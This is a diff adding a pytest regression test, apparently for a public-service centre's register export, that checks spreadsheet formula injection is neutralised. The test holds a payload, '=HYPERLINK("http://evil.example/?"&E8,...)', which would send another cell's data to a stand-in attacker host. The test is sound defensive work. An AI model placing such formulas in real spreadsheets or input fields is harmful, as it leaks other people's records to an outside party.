@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import date, datetime
 
 import pytest
@@ -136,3 +137,25 @@ class TestTrackingBookPdf:
         assert "Lê Văn Bí Mật" not in text
         for key in ("first", "second", "third"):
             assert week[key].code in text.replace(" ", "")
+
+
+class TestFormulaInjection:
+    def test_what_a_citizen_typed_is_text_never_a_formula(self, center, procedure):
+        """Found by the black-box review: a name typed at the kiosk as =HYPERLINK(…) became a
+        live formula in the officers' register (it could carry other rows' data out)."""
+        payload = '=HYPERLINK("http://evil.example/?"&E8,"x")'
+        submit(
+            center,
+            procedure,
+            key="f",
+            now=vn(2025, 7, 7, 9, 0),
+            applicant=Applicant(name=payload, address="=1+1", phone="0912345678"),
+        )
+        content = tracking_book_xlsx(center, date(2025, 7, 7), date(2025, 7, 7))
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+            xml = b"".join(archive.read(n) for n in sheets)
+        assert b"<f>" not in xml
+        sheet = load_workbook(io.BytesIO(content)).active
+        values = {c.value for row in sheet.iter_rows() for c in row}
+        assert payload in values
